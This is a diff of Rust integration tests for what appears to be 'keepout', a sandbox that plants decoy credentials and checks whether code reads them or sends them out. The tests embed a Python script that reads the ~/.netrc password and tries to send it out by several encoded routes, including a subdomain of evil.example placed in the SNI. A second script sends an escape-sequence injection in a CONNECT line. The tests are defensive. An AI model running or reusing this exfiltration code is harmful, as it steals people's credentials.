@@ -159,8 +159,9 @@ fn allowlist_in_the_policy_and_clear_errors() {
 }
 
 /// --decoys: fake credentials in the sandbox's fresh home; every read of them is reported, from
-/// outside the sandbox; listing the directory is not a read; a run that reads nothing prints no
-/// line.
+/// outside the sandbox, as a read (never "refused": the read succeeded), each with its kind (a
+/// read that ordinary tools make, or not); listing the directory is not a read; a run that reads
+/// nothing prints no line.
 #[test]
 fn decoy_reads_are_reported() {
     for r in runners() {
@@ -180,25 +181,329 @@ fn decoy_reads_are_reported() {
             "[{r}] the decoys are there, with fake values:{inn}"
         );
         assert!(
-            inn.stderr.contains("read of decoy ~/.netrc")
-                && inn.stderr.contains("read of decoy ~/.ssh/id_ed25519"),
-            "[{r}] both reads reported:{inn}"
+            inn.stderr
+                .contains("keepout: decoys read: ~/.netrc (ordinary: pip, curl and git")
+                && inn
+                    .stderr
+                    .contains("~/.ssh/id_ed25519 (unexpected: builds and installs do not read it)")
+                && inn
+                    .stderr
+                    .contains("the sandbox had no network: nothing could be sent"),
+            "[{r}] both reads reported, each with its kind:{inn}"
         );
         assert!(
-            !inn.stderr.contains("~/.aws"),
-            "[{r}] only what was read:{inn}"
+            !inn.stderr.contains("refused") && !inn.stderr.contains("~/.aws"),
+            "[{r}] a read is not a refusal; only what was read:{inn}"
         );
         let json: serde_json::Value =
             serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
         assert_eq!(
-            json["decoys_read"].as_array().map(Vec::len),
-            Some(2),
+            json["decoys_read"],
+            serde_json::json!([
+                {"path": "~/.netrc", "kind": "ordinary",
+                 "ordinary": "pip, curl and git read it on their own, for HTTP logins"},
+                {"path": "~/.ssh/id_ed25519", "kind": "unexpected"}
+            ]),
             "[{r}] {json}"
         );
         let quiet = fx.inside(&["--decoys"], "ls -a ~ ~/.ssh >/dev/null");
         assert!(
-            !quiet.stderr.contains("keepout: refused"),
+            !quiet.stderr.contains("keepout:"),
             "[{r}] listing is not reading:{quiet}"
+        );
+    }
+}
+
+/// The real pip, installing from PyPI into a venv with decoys planted, reads ~/.netrc (as it
+/// always does): reported as an ordinary read, and nothing is called "refused".
+#[test]
+fn pip_install_with_decoys_cries_no_wolf() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let fetch = fx.script("fetch.py", FETCH_PY);
+        let out = fx.outside(&format!("{PYTHON} {fetch} https://pypi.org/simple/six/"));
+        if !out.stdout.contains("REACHED") {
+            note(&format!(
+                "[{r}] this machine does not reach PyPI; skipping:{out}"
+            ));
+            return;
+        }
+        let report = fx.root.join("pip.json");
+        let report_s = report.display().to_string();
+        fx.give_to_runner(&fx.root);
+        let inn = fx.inside(
+            &["--decoys", "--net", "pypi", "--report", &report_s],
+            &format!(
+                "{PYTHON} -m venv /tmp/v && /tmp/v/bin/pip install --no-cache-dir --disable-pip-version-check -q six && /tmp/v/bin/python -c 'import six; print(\"SIX\", six.__version__)'"
+            ),
+        );
+        assert!(
+            inn.code == Some(0) && inn.stdout.contains("SIX 1."),
+            "[{r}] pip install six in a venv:{inn}"
+        );
+        assert!(
+            !inn.stderr.contains("refused") && !inn.stderr.contains("ALERT"),
+            "[{r}] no alarm for what pip does:{inn}"
+        );
+        let json: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        assert_eq!(json["refused"], serde_json::json!([]), "[{r}] {json}");
+        assert_eq!(json["decoys_sent"], serde_json::json!([]), "[{r}] {json}");
+        for read in json["decoys_read"].as_array().unwrap() {
+            assert_eq!(
+                read["kind"], "ordinary",
+                "[{r}] only ordinary reads: {json}"
+            );
+        }
+        if json["decoys_read"].as_array().unwrap().is_empty() {
+            note(&format!("[{r}] pip did not read ~/.netrc this time"));
+        } else {
+            assert!(
+                inn.stderr
+                    .contains("keepout: decoys read: ~/.netrc (ordinary")
+                    && inn
+                        .stderr
+                        .contains("none of their values went out through keepout's proxy"),
+                "[{r}] said as a read:{inn}"
+            );
+        }
+    }
+}
+
+/// Send the password of ~/.netrc away: in an Authorization header (base64), a form body (hex),
+/// the URL (as it is), or a piece of it in the host name of an HTTPS request.
+const EXFILTRATE_PY: &str = r#"
+import base64, os, re, sys, urllib.request
+base = sys.argv[1]
+pw = re.search(r"password (\S+)", open(os.path.expanduser("~/.netrc")).read()).group(1)
+tries = {
+    "header": urllib.request.Request(base + "/h", headers={
+        "Authorization": "Basic " + base64.b64encode(("u:" + pw).encode()).decode()}),
+    "body": urllib.request.Request(base + "/b", data=("token=" + pw.encode().hex()).encode()),
+    "url": urllib.request.Request(base + "/u?t=" + pw),
+}
+if len(sys.argv) > 2:
+    tries["host"] = urllib.request.Request("https://" + pw[-12:] + "." + sys.argv[2] + "/")
+for how, req in tries.items():
+    try:
+        urllib.request.urlopen(req, timeout=20).read(100)
+        print("SENT", how)
+    except Exception as e:
+        print("FAILED", how, str(e)[:100])
+if len(sys.argv) > 2:
+    # A tunnel to an allowed host whose TLS hello names another: the piece in the SNI.
+    import socket, ssl, urllib.parse
+    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
+    try:
+        s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
+        s.sendall(b"CONNECT " + sys.argv[2].encode() + b":443 HTTP/1.1\r\n\r\n")
+        answer = s.recv(200).split(b"\r\n")[0]
+        if b" 200 " not in answer:
+            raise OSError(answer.decode())
+        t = ssl.create_default_context().wrap_socket(s, server_hostname=pw[-12:] + ".evil.example")
+        print("SENT sni")
+    except Exception as e:
+        print("FAILED sni", str(e)[:100])
+"#;
+
+/// A server that writes down what it receives (path, the decoded Authorization, the body).
+const RECORDER_PY: &str = r#"
+import base64, http.server, os, sys
+log, ready = sys.argv[1], sys.argv[2]
+class H(http.server.BaseHTTPRequestHandler):
+    def handle_one_request(self):
+        super().handle_one_request()
+    def answer(self):
+        auth = self.headers.get("Authorization", "")
+        if auth.startswith("Basic "):
+            auth = base64.b64decode(auth[6:]).decode()
+        n = int(self.headers.get("Content-Length") or 0)
+        body = self.rfile.read(n).decode() if n else ""
+        if body.startswith("token="):
+            body = bytes.fromhex(body[6:]).decode()
+        with open(log, "a") as f:
+            f.write(f"{self.path} {auth} {body}\n")
+        self.send_response(200)
+        self.end_headers()
+        self.wfile.write(b"ok")
+    do_GET = answer
+    do_POST = answer
+    def log_message(self, *a):
+        pass
+s = http.server.HTTPServer(("127.0.0.1", 0), H)
+with open(ready + ".tmp", "w") as f:
+    f.write(str(s.server_port))
+os.rename(ready + ".tmp", ready)
+s.serve_forever()
+"#;
+
+/// A decoy's value on its way out through the proxy is caught, refused and reported as theft.
+/// Outside, the same script hands the real ~/.netrc password to a server (in a header, a body,
+/// a URL: the server has it three times). Inside with --decoys and --net pypi, each request to
+/// pypi.org (allowed) carrying the decoy's value is refused before it is forwarded, and so is an
+/// HTTPS request whose host name carries a piece of it (searched before the name is resolved;
+/// the sandbox itself has no DNS); the ALERT lines and the JSON say where and how.
+#[test]
+fn a_decoy_sent_out_is_caught() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let script = fx.script("exfiltrate.py", EXFILTRATE_PY);
+        let recorder = fx.script("recorder.py", RECORDER_PY);
+        let log = fx.root.join("received.log");
+        let ready = fx.root.join("recorder-ready");
+        fx.give_to_runner(&fx.root);
+        fx.background(&[
+            PYTHON,
+            &recorder,
+            &log.display().to_string(),
+            &ready.display().to_string(),
+        ]);
+        assert!(
+            poll(std::time::Duration::from_secs(20), || ready.exists()),
+            "[{r}] the recorder did not start"
+        );
+        let port = read(&ready).unwrap();
+        let out = fx.outside(&format!("{PYTHON} {script} http://127.0.0.1:{port}"));
+        let real = fx.credential(".netrc");
+        let got = read(&log).unwrap_or_default();
+        assert!(
+            out.stdout.matches("SENT").count() == 3 && got.matches(&real).count() == 3,
+            "[{r}] outside, the server receives the password three times:{out}\n{got}"
+        );
+
+        let fetch = fx.script("fetch.py", FETCH_PY);
+        let reach = fx.outside(&format!("{PYTHON} {fetch} https://pypi.org/simple/six/"));
+        let report = fx.root.join("sent.json");
+        let report_s = report.display().to_string();
+        fx.give_to_runner(&fx.root);
+        let inn = fx.inside(
+            &["--decoys", "--net", "pypi", "--report", &report_s],
+            &format!(
+                "{PYTHON} {script} http://pypi.org pypi.org; \
+                 {PYTHON} -c 'import socket; socket.getaddrinfo(\"pypi.org\", 443)' 2>/dev/null && echo HAS-DNS || echo NO-DNS"
+            ),
+        );
+        assert!(
+            !inn.stdout.contains("SENT") && inn.stdout.matches("FAILED").count() == 5,
+            "[{r}] nothing sent:{inn}"
+        );
+        assert!(
+            inn.stdout.contains("NO-DNS"),
+            "[{r}] no DNS in the sandbox but through the proxy:{inn}"
+        );
+        let reached = reach.stdout.contains("REACHED");
+        let mut places = vec![
+            ("the Authorization header", "base64-encoded"),
+            ("the body", "hex-encoded"),
+            ("the URL", "as it is"),
+            ("the host name", "a piece of it"),
+        ];
+        if reached {
+            // The tunnel to pypi.org is opened (it is allowed), its TLS hello not forwarded.
+            places.push(("the TLS hello (SNI)", "a piece of it"));
+        }
+        for (place, form) in places.iter().copied() {
+            let port = if place == "the host name" || place.contains("TLS") {
+                443
+            } else {
+                80
+            };
+            let dest = if place == "the host name" {
+                ""
+            } else {
+                "pypi.org"
+            };
+            let line = format!(
+                "keepout: ALERT: the code tried to SEND a decoy credential (~/.netrc) to {dest}"
+            );
+            assert!(
+                inn.stderr.lines().any(|l| l.starts_with(&line)
+                    && l.contains(&format!(
+                        ":{port} (in {place}, {form}): it is trying to steal credentials"
+                    ))),
+                "[{r}] {place}:{inn}"
+            );
+        }
+        assert!(
+            inn.stderr.contains("the value did not leave"),
+            "[{r}] {inn}"
+        );
+        let json: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        let sent = json["decoys_sent"].as_array().unwrap();
+        assert_eq!(sent.len(), places.len(), "[{r}] {json}");
+        assert_eq!(
+            sent[0],
+            serde_json::json!({"destination": "pypi.org:80", "decoy": "~/.netrc",
+                "place": "the Authorization header", "form": "base64"}),
+            "[{r}] {json}"
+        );
+        assert_eq!(
+            json["refused"],
+            serde_json::json!([]),
+            "[{r}] not a policy matter: {json}"
+        );
+        if reached {
+            // The same request without a decoy's value goes through: it is the value that
+            // stopped them.
+            // (Whatever pypi.org answers on port 80, it is not keepout's 403.)
+            let clean = "import base64, urllib.request, urllib.error\n\
+                req = urllib.request.Request('http://pypi.org/simple/six/', headers={'Authorization': 'Basic ' + base64.b64encode(b'u:not-a-decoy').decode()})\n\
+                try:\n    print('STATUS', urllib.request.urlopen(req, timeout=20).status)\n\
+                except urllib.error.HTTPError as e:\n    print('STATUS', e.code, e.read(200))\n";
+            let clean = fx.script("clean.py", clean);
+            let inn = fx.inside(&["--decoys", "--net", "pypi"], &format!("{PYTHON} {clean}"));
+            assert!(
+                inn.stdout.contains("STATUS")
+                    && !inn.stdout.contains("keepout")
+                    && !inn.stderr.contains("ALERT"),
+                "[{r}] forwarded:{inn}"
+            );
+        }
+    }
+}
+
+/// Through --net, a name that does not resolve is "not reachable" (and why), not a refusal:
+/// on the summary line and in the JSON (`unreachable`, not `refused`).
+#[test]
+fn a_name_that_does_not_resolve_is_not_a_refusal() {
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let fetch = fx.script("fetch.py", FETCH_PY);
+        let name = "nosuch-keepout-test.invalid";
+        let out = fx.outside(&format!("{PYTHON} {fetch} https://{name}/"));
+        assert!(
+            out.stdout.contains("REFUSED"),
+            "[{r}] it does not resolve outside either:{out}"
+        );
+        let report = fx.root.join("dns.json");
+        let report_s = report.display().to_string();
+        fx.give_to_runner(&fx.root);
+        let inn = fx.inside(
+            &["--net", "*", "--report", &report_s],
+            &format!("{PYTHON} {fetch} https://{name}/"),
+        );
+        assert!(
+            inn.stderr.contains(&format!(
+                "keepout: not reachable 1: {name}:443 (could not resolve {name})"
+            )),
+            "[{r}] said as unreachable:{inn}"
+        );
+        assert!(!inn.stderr.contains("refused"), "[{r}] not a refusal:{inn}");
+        let json: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
+        assert_eq!(json["refused"], serde_json::json!([]), "[{r}] {json}");
+        assert_eq!(
+            json["unreachable"][0]["destination"],
+            format!("{name}:443"),
+            "[{r}] {json}"
+        );
+        assert!(
+            json["unreachable"][0]["reason"]
+                .as_str()
+                .unwrap()
+                .starts_with(&format!("could not resolve {name}")),
+            "[{r}] {json}"
         );
     }
 }
@@ -327,5 +632,29 @@ fn cargo_and_npm_through_the_proxy() {
                 "[{r}] cargo refused with --net pypi:{inn}"
             );
         }
+    }
+}
+
+/// A destination is the sandbox's text: printed with its control characters escaped, so a
+/// request for a "host" made of escape sequences cannot rewrite keepout's lines (A17).
+#[test]
+fn destinations_are_shown_escaped() {
+    const RAW_CONNECT: &str = r#"
+import socket
+s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
+s.sendall(b"CONNECT \x1b[2K\x1b]0;owned\x07evil.example:443 HTTP/1.1\r\n\r\n")
+print("ANSWER", s.recv(100).split(b"\r\n")[0].decode())
+"#;
+    for r in runners() {
+        let fx = Fixture::new(&r);
+        let script = fx.script("raw_connect.py", RAW_CONNECT);
+        let inn = fx.inside(&["--net", "pypi"], &format!("{PYTHON} {script}"));
+        assert!(inn.stdout.contains("ANSWER HTTP/1.1 403"), "[{r}]{inn}");
+        assert!(
+            inn.stderr
+                .contains("connect \\e[2K\\e]0;owned\\x07evil.example:443 (not allowed)")
+                && !inn.stderr.contains('\x1b'),
+            "[{r}] escaped:{inn}"
+        );
     }
 }
